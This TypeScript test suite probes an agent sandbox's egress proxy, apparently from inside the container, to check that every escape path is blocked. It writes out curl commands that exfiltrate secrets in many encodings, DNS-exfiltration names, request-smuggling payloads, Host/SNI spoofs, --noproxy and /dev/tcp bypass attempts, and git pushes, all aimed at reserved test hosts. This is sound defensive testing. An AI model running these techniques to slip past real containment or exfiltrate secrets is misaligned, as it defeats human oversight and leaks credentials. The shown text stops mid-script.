/**
 * The escape suite (SPEC §6–7, LESSONS 11, 17, 19, 20, 31, 36–38): one shell bottle, started once
 * by the real CLI, whose agent tries every way out we know of. Each probe asserts the exact
 * §7.6 block (403, `X-Bot-Bottle-Block`, JSON `rule`) or the exact failure, and says in a comment
 * what would make it pass wrongly — a probe that cannot fail proves nothing.
 *
 * The fixture upstream (`tests/helpers/upstream.ts`) runs on the host and is reached by the
 * sidecar through the engine's `bridge` gateway (routes set `upstream`); its certificate comes
 * from the test CA that `tests/helpers/cli.ts` adds to `BOT_BOTTLE_EXTRA_CA_CERTS`. Probes name
 * only reserved names (`.test`), documentation addresses (192.0.2.0/24, 2001:db8::/32) and that
 * gateway — never a real public or private address, never 169.254.169.254.
 *
 * Values that must not leak (the route token, an AWS-shaped key) are made at run time and reach
 * the agent's commands on stdin only, so no file, argv of an exec or container config holds them
 * unless the product put them there.
 */
import assert from "node:assert/strict";
import { bottleHome } from "../helpers/bottle_home.ts";
import { startProbeBottle } from "../helpers/bottle_probe.ts";
import { engineTest } from "../helpers/engine.ts";
import { TEST_CA_NAME } from "../helpers/test_ca.ts";
import { INJECTION_BODY, startUpstream } from "../helpers/upstream.ts";
import {
  connectEngine,
  containerCreate,
  containerInspect,
  containerLogs,
  containerRemove,
  containerStart,
} from "../../src/engine/mod.ts";
import { TEST_SESSION_LABEL } from "../helpers/engine.ts";
import {
  assertRawBlocked,
  type CurlResult,
  describeCurl,
  describeRaw,
  firstRawReply,
  ProbeKit,
  rawRequest,
} from "./probe_kit.ts";

const TOKEN_VAR = "BB_ESCAPE_API_TOKEN";
const ECHO = "https://echo.example.test/echo";

function randomHex(bytes: number): string {
  return Array.from(
    crypto.getRandomValues(new Uint8Array(bytes)),
    (b) => b.toString(16).padStart(2, "0"),
  ).join("");
}

/** An AWS-access-key-shaped string, assembled at run time so no source file holds one. */
function awsShapedKey(): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  const tail = Array.from(crypto.getRandomValues(new Uint8Array(16)), (b) => alphabet[b % 32]);
  return ["AK", "IA"].join("") + tail.join("");
}

function manifest(gateway: string, port: number, plainPort: number): string {
  const upstream = `"${gateway}:${port}"`;
  return [
    "egress:",
    "  log: 2",
    "  routes:",
    "    - host: api.example.test",
    "      ports: [443, 80]",
    `      auth: {scheme: Bearer, token_ref: ${TOKEN_VAR}}`,
    `      upstream: ${upstream}`,
    "      dlp: {outbound_on_match: block}",
    "    - host: echo.example.test",
    `      upstream: ${upstream}`,
    "      matches:",
    "        - paths: [{type: prefix, value: /echo}, {type: prefix, value: /sse}]",
    "          methods: [GET, POST]",
    "      dlp: {outbound_on_match: block}",
    "      max_body_bytes: 1048576",
    // No matches: every path and method, default policy (supervise), ports 443 and 8443.
    "    - host: ws.example.test",
    "      ports: [443, 8443]",
    `      upstream: ${upstream}`,
    // Points at the fixture's PLAIN port: a raw tunnel to it would be answered in clear text.
    "    - host: raw.example.test",
    "      ports: [8443]",
    `      upstream: "${gateway}:${plainPort}"`,
    // No upstream: the proxy resolves it itself, and a decoy container on the bottle's egress
    // network answers that name with a private address.
    // on_match redact: a credential-shaped value is replaced, the request still goes out.
    "    - host: redact.example.test",
    `      upstream: ${upstream}`,
    "      dlp: {outbound_on_match: redact}",
    // The fixture's certificate does not name it: upstream TLS must refuse to talk.
    "    - host: badcert.example.test",
    `      upstream: ${upstream}`,
    "    - host: private.example.test",
    "      dlp: {outbound_on_match: block}",
  ].join("\n");
}

engineTest(
  "escape suite: every way out is blocked with the right rule; allowed traffic works",
  async (t) => {
    const suiteStarted = performance.now();
    const token = `bbtok${randomHex(16)}`;
    const aws = awsShapedKey();
    const secrets = { token, aws };
    await using upstream = await startUpstream({
      wsReplies: { "send-token": `here it is: ${token}`, "send-injection": INJECTION_BODY },
    });
    const gw = upstream.containerAddress;
    // Nobody approves in this suite: flagged requests on a `supervise` route block at once.
    await using home = await bottleHome({
      [TOKEN_VAR]: token,
      BOT_BOTTLE_SUPERVISE_APPROVALS: "0",
    });
    await using bottle = await startProbeBottle(
      home,
      manifest(gw, upstream.port, upstream.plainPort),
      { prompt: "env > ~/agent.env.tmp && mv ~/agent.env.tmp ~/agent.env; sleep 600" },
    );
    const kit = new ProbeKit(bottle);
    await kit.install();
    const seen = (pred: (r: (typeof upstream.requests)[number]) => boolean) =>
      upstream.requests.filter(pred);
    const marker = () => `m${randomHex(6)}`;
    const startup = performance.now() - suiteStarted;

    const timings: { name: string; ok: boolean; ms: number; why?: string; seenAs?: string }[] = [];
    const probe = async (name: string, fn: () => unknown) => {
      const started = performance.now();
      let why: string | undefined;
      let seenAs: string | undefined;
      const ok = await t.step({
        name,
        fn: async () => {
          try {
            const observed = await fn();
            if (typeof observed === "string") seenAs = observed;
          } catch (error) {
            why = (error instanceof Error ? error.message : String(error)).split("\n")[0];
            throw error;
          }
        },
        sanitizeOps: false,
        sanitizeResources: false,
        sanitizeExit: false,
      });
      timings.push({ name, ok, ms: performance.now() - started, why, seenAs });
    };
    const blocked = async (
      name: string,
      args: string,
      rules: string | string[],
      secret?: string,
      options: { echoesHost?: boolean } = {},
    ) =>
      await probe(name, async () => {
        const r = await kit.curl(args, { secret });
        const seenAs = await kit.assertCurlBlocked(r, rules);
        // A block names the host; when the secret IS the host the agent only gets back its own
        // input, so only the log scan at the end matters there.
        if (secret !== undefined && !options.echoesHost) assertNoSecretInReply(r, secret);
        return seenAs;
      });

    // The agent's own environment (canary, placeholders), dumped by the prompt.
    let agentEnv = "";
    {
      const deadline = Date.now() + 60_000;
      while (!/^BOT_BOTTLE_CANARY=/m.test(agentEnv)) {
        assert.ok(Date.now() < deadline, "the agent did not write ~/agent.env within 60 s");
        agentEnv = (await bottle.exec("cat ~/agent.env 2>/dev/null || true")).stdout;
        if (!/^BOT_BOTTLE_CANARY=/m.test(agentEnv)) await new Promise((r) => setTimeout(r, 250));
      }
    }
    const canary = /^BOT_BOTTLE_CANARY=(.+)$/m.exec(agentEnv)![1];

    // ---------------------------------------------------------------- hosts and addresses
    // Each would pass wrongly if the proxy forwarded unlisted hosts: the fixture cannot answer
    // these names, so a forwarding proxy answers 502/504 (or curl fails to resolve) instead of
    // the 403 with this rule.
    await probe("unlisted host: the block is read inside the tunnel", async () => {
      // SPEC §7.6 as revised: a valid unlisted name gets a tunnel with a leaf of the bottle CA
      // and its 403 inside, so the agent reads the JSON. Would pass wrongly if the proxy
      // forwarded unlisted hosts: the fixture cannot answer this name, so a forwarding proxy
      // answers 502 (or curl fails to resolve) instead of this 403.
      const r = await kit.curl("https://unlisted.example.test/");
      const seenAs = await kit.assertCurlBlocked(r, "host_not_allowlisted");
      assert.match(seenAs, /in the tunnel/, describeCurl(r));
      const body = JSON.parse(r.stdout);
      assert.equal(body.host, "unlisted.example.test");
      assert.deepEqual(body.remedy, {
        via: "manifest",
        snippet: "egress:\n  routes:\n    - host: unlisted.example.test\n",
      });
      const report = await kit.raw({
        connect: "unlisted.example.test:443",
        requests: [rawRequest("GET", "/", "unlisted.example.test")],
      });
      assert.equal(report.tls?.ok, true, describeRaw(report));
      assert.notEqual(report.tls?.issuer, TEST_CA_NAME, "not the bottle CA's leaf");
      assert.equal(report.tls?.subject, "unlisted.example.test", describeRaw(report));
      assertRawBlocked(report.responses[0], "host_not_allowlisted", describeRaw(report));
      return `${seenAs}; leaf CN ${report.tls?.subject} from ${report.tls?.issuer}`;
    });
    // IP literals in every shorthand and malformed names never get a tunnel (no leaf, nothing
    // to talk TLS to). Would pass wrongly if they were treated as host names: the CONNECT
    // would be answered 200.
    for (
      const [target, rule] of [
        ["0x7f.1:443", "host_not_allowlisted"],
        ["2130706433:443", "host_not_allowlisted"],
        ["0177.0.0.1:443", "host_not_allowlisted"],
        ["[::ffff:192.0.2.1]:443", "host_not_allowlisted"],
        ["bad..name.test:443", "malformed_request"],
        ["under_score.example.test:443", "malformed_request"],
      ]
    ) {
      await probe(`CONNECT ${target} is refused on the CONNECT`, async () => {
        const report = await kit.raw({ connect: target, mode: "connect-only" });
        assert.notEqual(report.connect?.status, 200, describeRaw(report));
        return assertRawBlocked(report.connect, rule, describeRaw(report));
      });
    }
    await blocked("raw IPv4 literal", "https://192.0.2.10/", "host_not_allowlisted");
    await blocked("IPv6 literal", "'https://[2001:db8::1]/'", "host_not_allowlisted");
    await blocked(
      "metadata-style URL on an IP literal (plain HTTP)",
      "http://192.0.2.254/latest/meta-data/",
      "host_not_allowlisted",
    );
    // Would pass wrongly if a route's `upstream` address counted as an allowed host: this is the
    // fixture itself, so a forwarding proxy would return its 200.
    await blocked(
      "a route's upstream address as the host",
      `-k https://${gw}:${upstream.port}/echo`,
      ["host_not_allowlisted", "port_not_allowed"],
    );
    // Would pass wrongly if the decision used the Host header instead of the CONNECT/URI target.
    await blocked(
      "IP literal with a spoofed Host header (HTTPS)",
      "-k https://192.0.2.10/echo -H 'Host: echo.example.test'",
      "host_not_allowlisted",
    );
    await blocked(
      "IP literal with a spoofed Host header (plain HTTP)",
      "http://192.0.2.10/echo -H 'Host: echo.example.test'",
      ["host_not_allowlisted", "authority_mismatch"],
    );
    // Would pass wrongly if ports were not checked: echo.example.test allows 443 and 80 only.
    await blocked(
      "allowed host on a port not listed",
      "https://echo.example.test:8443/echo",
      "port_not_allowed",
    );
    await blocked(
      "DoH-style query to a host not listed",
      "-H 'accept: application/dns-message' " +
        "'https://dns.example.test/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUEdGVzdAAAAQAB'",
      "host_not_allowlisted",
    );
    await blocked(
      "DoH-style query to an IP literal",
      "'https://192.0.2.53/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUEdGVzdAAAAQAB'",
      "host_not_allowlisted",
    );

    await probe("DNS exfiltration through a subdomain does not resolve", async () => {
      // Would pass wrongly if the agent's resolver forwarded external names (CVE-2024-29018 on
      // old engines, or HostConfig.Dns not pointing at the sidecar).
      const r = await bottle.exec(
        "getent hosts c2VjcmV0.exfil.example.test; echo rc=$?; " +
          "getent ahosts c2VjcmV0.exfil.example.test; echo rc=$?",
      );
      assert.match(r.stdout, /^rc=2\nrc=2$/m, `getent resolved something: ${r.stdout}`);
      // The proxy decides on the name before any resolution: an unlisted name is refused with
      // host_not_allowlisted, never a resolution error. (Whether the sidecar's own resolver saw a
      // query is not observable from here; SPEC §6.5 tests assert what the agent observes.)
      const c = await kit.curl("https://c2VjcmV0.exfil.example.test/");
      return `getent rc=2; proxy: ${await kit.assertCurlBlocked(c, "host_not_allowlisted")}`;
    });

    // ---------------------------------------------------------------- authority agreement
    await probe("Host header spoof inside an allowed CONNECT", async () => {
      // Would pass wrongly if only the CONNECT target were checked (LESSONS 17): the fixture
      // would answer 200 to Host unlisted.example.test.
      const m = marker();
      const r = await kit.curl(`'${ECHO}?${m}' -H 'Host: unlisted.example.test'`);
      const seenAs = await kit.assertCurlBlocked(r, "authority_mismatch");
      assert.equal(seen((x) => x.query.includes(m)).length, 0, "the request reached upstream");
      return seenAs;
    });

    await probe("a listed Host inside an unlisted tunnel reaches nothing", async () => {
      // Would pass wrongly if requests in a tunnel to an unlisted name were decided on their
      // Host header: the fixture (echo.example.test's upstream) would answer 200.
      const m = marker();
      const report = await kit.raw({
        connect: "unlisted.example.test:443",
        requests: [rawRequest("GET", `/echo?${m}`, "echo.example.test")],
      });
      // SPEC §7.2: the tunnel's host is checked against the allowlist (3) before authority (4).
      assertRawBlocked(report.responses[0], "host_not_allowlisted", describeRaw(report));
      assert.equal(seen((x) => x.query.includes(m)).length, 0, "the request reached upstream");
      return describeRaw(report);
    });

    await probe("a listed SNI and Host inside an unlisted tunnel reach nothing", async () => {
      // The attacker's client skips verification, so the TLS session completes with the
      // unlisted name's leaf. Would pass wrongly if the SNI or Host chose the route.
      const m = marker();
      const report = await kit.raw({
        connect: "unlisted.example.test:443",
        servername: "echo.example.test",
        insecure: true,
        requests: [rawRequest("GET", `/echo?${m}`, "echo.example.test")],
      });
      assertRawBlocked(firstRawReply(report), "host_not_allowlisted", describeRaw(report));
      assert.equal(seen((x) => x.query.includes(m)).length, 0, "the request reached upstream");
      return describeRaw(report);
    });

    await probe("an unlisted tunnel carrying non-TLS bytes is closed", async () => {
      // No raw tunnels for unlisted names either: would pass wrongly if bytes were relayed or
      // answered (a relay to the name would have to resolve it; an answer shows in data).
      const report = await kit.raw({
        connect: "unlisted.example.test:80",
        mode: "raw",
        raw: rawRequest("GET", "/", "unlisted.example.test"),
      });
      assert.equal(report.connect?.status, 200, `CONNECT: ${describeRaw(report)}`);
      assert.equal(report.raw?.data, "", describeRaw(report));
      assert.equal(report.raw?.closed, true, `tunnel left open: ${describeRaw(report)}`);
      return describeRaw(report);
    });

    await probe("SNI different from the CONNECT host", async () => {
      // Would pass wrongly if SNI were ignored: the handshake would complete with a leaf and the
      // request would come back 200 from the fixture.
      const m = marker();
      const report = await kit.raw({
        connect: "echo.example.test:443",
        servername: "unlisted.example.test",
        // The agent's own client may skip verification, so a failed handshake must be the
        // proxy's doing, not the client's.
        insecure: true,
        requests: [rawRequest("GET", `/echo?${m}`, "echo.example.test")],
      });
      const refusedTls = report.connect?.status === 200 && report.tls?.ok === false;
      if (!refusedTls) {
        assertRawBlocked(firstRawReply(report), "authority_mismatch", describeRaw(report));
      }
      assert.equal(seen((x) => x.query.includes(m)).length, 0, "the request reached upstream");
      return describeRaw(report);
    });

    await probe("keep-alive: a second request for another host on one TLS connection", async () => {
      // Would pass wrongly if the authority were checked once per connection (SPEC §7.2 6a):
      // the second request would be forwarded — with api.example.test's token injected.
      const m = marker();
      const report = await kit.raw({
        connect: "echo.example.test:443",
        requests: [
          rawRequest("GET", `/echo?${m}-1`, "echo.example.test"),
          rawRequest("GET", `/echo?${m}-2`, "api.example.test"),
        ],
      });
      assert.equal(report.responses[0]?.status, 200, `first request: ${describeRaw(report)}`);
      assertRawBlocked(report.responses[1], "authority_mismatch", describeRaw(report));
      assert.equal(seen((x) => x.query.includes(`${m}-2`)).length, 0, "second request forwarded");
      assert.ok(
        !upstream.requests.some((x) =>
          (x.headers.authorization ?? "").includes(token) &&
          x.query.includes(m)
        ),
        "a token was injected into the switched request",
      );
      return describeRaw(report);
    });

    // ---------------------------------------------------------------- request hygiene
    const malformed: [string, (m: string) => string][] = [
      [
        "Content-Length with Transfer-Encoding",
        (m) =>
          `POST /echo?${m} HTTP/1.1\r\nHost: echo.example.test\r\nContent-Length: 47\r\n` +
          `Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /echo?${m}-smuggled HTTP/1.1\r\n` +
          `Host: echo.example.test\r\n\r\n`,
      ],
      [
        "two different Content-Length headers",
        (m) =>
          `POST /echo?${m} HTTP/1.1\r\nHost: echo.example.test\r\nContent-Length: 2\r\n` +
          `Content-Length: 30\r\n\r\nok`,
      ],
      [
        "an obs-folded header",
        (m) => `GET /echo?${m} HTTP/1.1\r\nHost: echo.example.test\r\nX-A: a\r\n b\r\n\r\n`,
      ],
      [
        "bare LF line endings",
        (m) => `GET /echo?${m} HTTP/1.1\nHost: echo.example.test\nX-A: a\n\n`,
      ],
      [
        "a CR inside a header value",
        (m) => `GET /echo?${m} HTTP/1.1\r\nHost: echo.example.test\r\nX-A: a\rb\r\n\r\n`,
      ],
    ];
    for (const [what, build] of malformed) {
      await probe(`request smuggling: ${what}`, async () => {
        // Would pass wrongly if the proxy forwarded what the agent sent (or re-framed it
        // leniently): the fixture would see the request, or the smuggled one behind it.
        const m = marker();
        const report = await kit.raw({ connect: "echo.example.test:443", requests: [build(m)] });
        assertRawBlocked(firstRawReply(report), "malformed_request", describeRaw(report));
        assert.equal(seen((x) => x.query.includes(m)).length, 0, "forwarded to upstream");
        return describeRaw(report);
      });
    }

    // ---------------------------------------------------------------- no raw tunnels
    await probe("CONNECT to an allowed non-443 port carrying non-TLS bytes is closed", async () => {
      // raw.example.test:8443's upstream is the fixture's PLAIN port: a raw tunnel would hand
      // these bytes to it, which answers "HTTP/1.1 200" and records the request.
      const m = marker();
      const report = await kit.raw({
        connect: "raw.example.test:8443",
        mode: "raw",
        raw: rawRequest("GET", `/echo?${m}`, "raw.example.test"),
      });
      assert.equal(report.connect?.status, 200, `CONNECT: ${describeRaw(report)}`);
      assert.ok(!/HTTP\/1\.[01] 200/.test(report.raw?.data ?? ""), describeRaw(report));
      assert.equal(report.raw?.closed, true, `tunnel left open: ${describeRaw(report)}`);
      assert.equal(seen((x) => x.query.includes(m)).length, 0, "bytes reached the upstream");
      return describeRaw(report);
    });

    await probe(
      "TLS on an allowed non-443 port is intercepted (bottle CA, not the upstream's)",
      async () => {
        // The agent image trusts the test CA too, so a raw tunnel would complete TLS with the
        // fixture's own leaf; interception shows the bottle CA as issuer instead.
        const report = await kit.raw({
          connect: "ws.example.test:8443",
          requests: [rawRequest("GET", "/echo?port8443", "ws.example.test")],
        });
        assert.equal(report.tls?.ok, true, describeRaw(report));
        assert.notEqual(report.tls?.issuer, TEST_CA_NAME, "the TLS session was a raw tunnel");
        assert.equal(report.responses[0]?.status, 200, describeRaw(report));
        return describeRaw(report);
      },
    );

    // ---------------------------------------------------------------- credentials
    await probe("plain HTTP to a route with auth", async () => {
      // Would pass wrongly if the proxy injected the token into clear text: it would forward the
      // request (and answer 502 from the TLS-only fixture port) instead of this 403.
      const r = await kit.curl("http://api.example.test/echo");
      return await kit.assertCurlBlocked(r, "plain_http_with_auth");
    });

    await probe("the upstream gets the token; an echo of it never reaches the agent", async () => {
      // Would pass wrongly without token reflection (SPEC §7.2 step 10): the fixture echoes the
      // Authorization header in its JSON body, in `x-echo-authorization` and in SSE events.
      const m = marker();
      const r = await kit.curl(
        `-H 'Authorization: Bearer agent-supplied' 'https://api.example.test/echo?${m}'`,
      );
      assert.equal(r.replies.at(-1)?.status, 200, describeCurl(r));
      const got = seen((x) => x.query.includes(m));
      assert.equal(got.length, 1, "the fixture did not see exactly one request");
      assert.equal(got[0].headers.authorization, `Bearer ${token}`, "injected token");
      assert.ok(!r.stdout.includes(token) && !r.stderr.includes(token), "token echoed to agent");
      assert.ok(!r.stdout.includes("agent-supplied"), "the agent's Authorization was forwarded");
      const echoed = JSON.parse(r.stdout) as { headers: Record<string, string> };
      assert.ok(echoed.headers.authorization, "the echo lost the header entirely");
      const sse = await kit.curl(`-N 'https://api.example.test/sse?n=3&delay=50&auth=1&${m}'`);
      assert.equal(sse.replies.at(-1)?.status, 200, describeCurl(sse));
      assert.equal((sse.stdout.match(/^data: event-/gm) ?? []).length, 3, describeCurl(sse));
      assert.ok(!sse.stdout.includes(token) && !sse.stderr.includes(token), "token in SSE");
      return `upstream got the token; the agent saw authorization ${
        JSON.stringify(echoed.headers.authorization)
      }`;
    });

    // ---------------------------------------------------------------- outbound DLP
    // echo.example.test has outbound_on_match: block. Each would pass wrongly if that location
    // (or that encoding) were not scanned: the fixture would answer 200.
    const locations: [string, string][] = [
      ["path", `'${ECHO}/'"$S"`],
      ["query", `'${ECHO}?note='"$S"`],
      ["header", `-H "X-Note: $S" '${ECHO}'`],
      ["JSON body", `-H 'Content-Type: application/json' -d '{"note":"'"$S"'"}' '${ECHO}'`],
      ["form body", `--data-urlencode "note=$S" '${ECHO}'`],
      ["multipart body", `-F "note=$S" '${ECHO}'`],
      [
        "multipart part in base64",
        `-F 'f=@-;headers="Content-Transfer-Encoding: base64"' '${ECHO}' <<<"$(printf %s "$S" | base64 -w0)"`,
      ],
      [
        "gzip body",
        `--data-binary @- -H 'Content-Encoding: gzip' -H 'Content-Type: application/json' '${ECHO}' ` +
        `< <(printf '{"note":"%s"}' "$S" | gzip -c)`,
      ],
      [
        "base64 in a JSON body",
        `-H 'Content-Type: application/json' -d '{"note":"'"$(printf %s "$S" | base64 -w0)"'"}' '${ECHO}'`,
      ],
      [
        "URL-encoded (every byte) in the query",
        `"${ECHO}?note=$(printf %s "$S" | od -An -v -tx1 | tr -d ' \\n' | sed 's/../%&/g')"`,
      ],
      [
        "hex in a text body",
        `-H 'Content-Type: text/plain' --data-binary "$(printf %s "$S" | od -An -v -tx1 | tr -d ' \\n')" '${ECHO}'`,
      ],
    ];
    for (const [kind, value] of Object.entries(secrets)) {
      for (const [where, args] of locations) {
        // Encoded forms are known_secrets' business (slot values, the canary); an AWS-shaped key
        // is found by token_patterns in decoded text only.
        if (kind === "aws" && /^(base64 in|hex in)/.test(where)) continue;
        await blocked(`secret (${kind}) in the ${where}`, args, "dlp_outbound", value);
      }
    }
    await probe("the agent's own Authorization header never carries a secret out", async () => {
      // Step 7 drops it before forwarding (or the DLP blocks it). Would pass wrongly if the
      // agent's header were forwarded: the fixture would record the value.
      const m = marker();
      const r = await kit.curl(`-H "Authorization: Bearer $S" '${ECHO}?${m}'`, { secret: token });
      const status = r.replies.at(-1)?.status;
      if (status === 403) await kit.assertCurlBlocked(r, "dlp_outbound");
      else assert.equal(status, 200, describeCurl(r));
      const forwarded = seen((x) => x.query.includes(m));
      for (const x of forwarded) {
        assert.ok(!JSON.stringify(x.headers).includes(token), "forwarded the agent's header");
      }
      return `${describeCurl(r).split(";")[1]}; upstream requests ${forwarded.length}, ` +
        `authorization there: ${JSON.stringify(forwarded[0]?.headers.authorization ?? null)}`;
    });
    // Would pass wrongly if hostnames were not checked before (or scanned by) the proxy: the
    // CONNECT itself carries the value.
    await blocked(
      "secret (token) as the hostname",
      `"https://$S.example.test/"`,
      ["host_not_allowlisted", "dlp_outbound"],
      token,
      { echoesHost: true },
    );
    await probe("secret under the default policy with no approver (headless)", async () => {
      // ws.example.test keeps the default policy `supervise`; approvals are off for this bottle
      // (BOT_BOTTLE_SUPERVISE_APPROVALS=0), so SPEC §7.4 blocks at once. Would pass wrongly if
      // supervise forwarded unapproved requests.
      const m = marker();
      const r = await kit.curl(`'https://ws.example.test/echo?${m}='"$S"`, { secret: token });
      const seenAs = await kit.assertCurlBlocked(r, "supervise_unavailable");
      assertNoSecretInReply(r, token);
      assert.equal(seen((x) => x.query.includes(m)).length, 0, "forwarded");
      return seenAs;
    });
    await probe(
      "redact: the key is replaced by ******** and the request still goes out",
      async () => {
        // Would pass wrongly if redact forwarded the original body (the fixture records it).
        const m = marker();
        const r = await kit.curl(
          `-H 'Content-Type: application/json' -d '{"note":"key '"$S"' here"}' 'https://redact.example.test/echo?${m}'`,
          { secret: aws },
        );
        assert.equal(r.replies.at(-1)?.status, 200, describeCurl(r));
        const got = seen((x) => x.query === m);
        assert.equal(got.length, 1, "not forwarded");
        assert.ok(!got[0].body.includes(aws), "the upstream received the key");
        assert.match(got[0].body, /"note":"key \*{8} here"/);
        assertNoSecretInReply(r, aws);
        return "redacted and forwarded";
      },
    );
    await probe(
      "an upstream whose certificate does not name the route host gets nothing",
      async () => {
        // Would pass wrongly if upstream TLS skipped the name check (the token or body would reach
        // whoever answers the route's address).
        const m = marker();
        const r = await kit.curl(`-d 'x=1' 'https://badcert.example.test/echo?${m}'`);
        assert.equal(r.replies.at(-1)?.status, 502, describeCurl(r));
        assert.match(r.stdout, /upstream_unreachable/);
        assert.equal(seen((x) => x.query === m).length, 0, "the request reached the upstream");
        return "502 upstream_unreachable";
      },
    );
    await probe("redact cannot rewrite a canary: it still blocks", async () => {
      const r = await kit.curl(`-d "x=$S" 'https://redact.example.test/echo'`, { secret: canary });
      return await kit.assertCurlBlocked(r, "canary");
    });
    await probe("the canary blocks on a block route and on a supervise route", async () => {
      // Would pass wrongly if the canary were not a known secret of the proxy: 200 from upstream.
      for (const host of ["echo.example.test", "ws.example.test"]) {
        const r = await kit.curl(`'https://${host}/echo?c='"$S"`, { secret: canary });
        await kit.assertCurlBlocked(r, "canary");
        assertNoSecretInReply(r, canary);
      }
      const body = await kit.curl(`-d "x=$S" '${ECHO}'`, { secret: canary });
      return await kit.assertCurlBlocked(body, "canary");
    });

    // ---------------------------------------------------------------- git push
    for (const host of ["echo.example.test", "ws.example.test"]) {
      // On ws.example.test (no matches) only the push rule stands between git and the fixture;
      // on echo.example.test a missing push rule would show as match_failed instead.
      await probe(`git push over smart HTTP to ${host}`, async () => {
        const r = await bottle.exec(
          'd=$(mktemp -d) && cd "$d" && git init -q && ' +
            "git -c user.name=t -c user.email=t@example.test commit -q --allow-empty -m x && " +
            `GIT_TRACE_CURL=1 GIT_TERMINAL_PROMPT=0 git push https://${host}/x.git HEAD:refs/heads/main`,
        );
        assert.notEqual(r.code, 0, "git push succeeded");
        assert.match(
          r.stderr,
          /<= Recv header: X-Bot-Bottle-Block: git_push_blocked/i,
          `git push: ${
            r.stderr.split("\n").filter((l) => /Recv header: (HTTP|X-Bot)|fatal/i.test(l)).join(
              " | ",
            )
          }`,
        );
        return `git exit ${r.code}; ${
          r.stderr.split("\n").filter((l) => /Recv header: X-Bot-Bottle-Block/i.test(l))[0]
            ?.replace(/^.*<= /, "")
        }`;
      });
      await blocked(
        `POST to git-receive-pack on ${host}`,
        `-X POST -H 'Content-Type: application/x-git-receive-pack-request' --data-binary '0000' ` +
          `https://${host}/x.git/git-receive-pack`,
        "git_push_blocked",
      );
      await blocked(
        `GET info/refs?service=git-receive-pack on ${host}`,
        `'https://${host}/x.git/info/refs?service=git-receive-pack'`,
        "git_push_blocked",
      );
    }

    // ---------------------------------------------------------------- matches
    // Would pass wrongly if matches were not enforced (or not by whole segments / after
    // normalisation): the fixture answers every one of these paths.
    await blocked("path not in matches", "https://echo.example.test/redirect", "match_failed");
    await blocked("method not in matches", `-X DELETE '${ECHO}'`, "match_failed");
    await blocked(
      "prefix is by whole segments",
      "https://echo.example.test/echoes",
      "match_failed",
    );
    await blocked(
      "dot segments that leave the prefix",
      "--path-as-is https://echo.example.test/echo/../redirect",
      ["match_failed", "malformed_request"],
    );
    await blocked(
      "encoded slash and dots that leave the prefix",
      "--path-as-is 'https://echo.example.test/echo%2F..%2Fredirect'",
      ["match_failed", "malformed_request"],
    );

    // ---------------------------------------------------------------- body limits
    // Would pass wrongly without the cap: the fixture would echo bodyLength 2097152.
    await blocked(
      "body over max_body_bytes (Content-Length)",
      `--data-binary @- -H 'Content-Type: application/octet-stream' '${ECHO}' < <(head -c 2097152 /dev/zero)`,
      "body_too_large",
    );
    await blocked(
      "body over max_body_bytes (chunked)",
      `--data-binary @- -H 'Transfer-Encoding: chunked' -H 'Content-Type: application/octet-stream' '${ECHO}' ` +
        "< <(head -c 2097152 /dev/zero)",
      "body_too_large",
    );

    // ---------------------------------------------------------------- streamed bodies
    // A JSON body from 64 KiB on, on a block route, goes upstream while it arrives. A secret near
    // its end must still block, and the fixture must never get the request whole (it records a
    // request only once its body ended): would pass wrongly if the proxy forwarded what it had not
    // scanned, or finished a request it had started.
    const bigJson = (m: string, tail: string) =>
      `--data-binary @- -H 'Content-Type: application/json' '${ECHO}?${m}' ` +
      `< <(printf '{"pad":"'; head -c 786432 /dev/zero | tr '\\0' a; printf '${tail}"}' "$S")`;
    for (const [kind, value] of [["token", token], ["canary", canary]]) {
      await probe(
        `secret (${kind}) at the end of a 768 KiB JSON body, forwarded as it arrives`,
        async () => {
          const m = marker();
          const r = await kit.curl(bigJson(m, " %s"), { secret: value });
          const seenAs = await kit.assertCurlBlocked(
            r,
            kind === "canary" ? "canary" : "dlp_outbound",
          );
          assertNoSecretInReply(r, value);
          assert.equal(seen((x) => x.query.includes(m)).length, 0, "the fixture got the request");
          return seenAs;
        },
      );
    }
    await probe("a clean 768 KiB JSON body, forwarded as it arrives, arrives whole", async () => {
      const m = marker();
      const r = await kit.curl(bigJson(m, "%s"), { secret: "" });
      assert.equal(r.replies.at(-1)?.status, 200, describeCurl(r));
      const got = seen((x) => x.query.includes(m));
      assert.equal(got.length, 1, "the fixture did not see exactly one request");
      assert.equal(got[0].bodyLength, 786432 + 10, "the fixture got another body");
      assert.ok(got[0].body.startsWith('{"pad":"aaaa'), "the fixture got other bytes");
      return `200, the fixture got ${got[0].bodyLength} bytes`;
    });

    // ---------------------------------------------------------------- proxy bypass
    await probe("proxy bypass: --noproxy and NO_PROXY straight to the fixture", async () => {
      // --resolve names the fixture's real address: if the agent had any route to the host
      // (a gateway on the internal network, LESSONS 31), these would return its 200.
      const direct = `--resolve echo.example.test:${upstream.port}:${gw} -k ` +
        `https://echo.example.test:${upstream.port}/echo`;
      const attempts = await Promise.all([
        kit.curl(`-m 3 --noproxy '*' ${direct}`),
        kit.curl(`-m 3 ${direct}`, {
          prefix: "NO_PROXY=echo.example.test no_proxy=echo.example.test ",
        }),
        kit.curl(`-m 3 --noproxy '*' '${ECHO}'`),
        kit.curl("-m 3 --noproxy '*' -k https://192.0.2.10/"),
      ]);
      const names = ["--noproxy", "NO_PROXY", "--noproxy by name", "--noproxy to a literal"];
      attempts.forEach((r, i) => {
        assert.notEqual(r.code, 0, `${names[i]} reached something: ${describeCurl(r)}`);
        assert.equal(r.replies.length, 0, `${names[i]} got an HTTP answer: ${describeCurl(r)}`);
      });
      assert.equal(seen((x) => x.path === "/echo" && x.headers.host?.includes(":")).length, 0);
      return attempts.map((r, i) =>
        `${names[i]}: ${/curl: \(\d+\)[^\n]*/.exec(r.stderr)?.[0] ?? `exit ${r.code}`}`
      ).join("; ");
    });

    await probe(
      "proxy bypass: direct TCP to addresses and to the sidecar's other ports",
      async () => {
        // Would pass wrongly if the agent network routed anywhere but the sidecar's listeners.
        const ports = [22, 80, 443, 2375, 3128, 8080, 8443, upstream.port];
        const script = [
          'try() { timeout 3 bash -c "exec 3<>/dev/tcp/$1/$2" 2>/dev/null && echo "open $1:$2"; }',
          "sc=$(getent hosts egress | awk '{print $1}'); echo \"sidecar=$sc\"",
          "try 192.0.2.10 443 &",
          `try ${gw} ${upstream.port} &`,
          `try ${gw} ${upstream.plainPort} &`,
          `for p in ${ports.join(" ")}; do try "$sc" "$p" & done`,
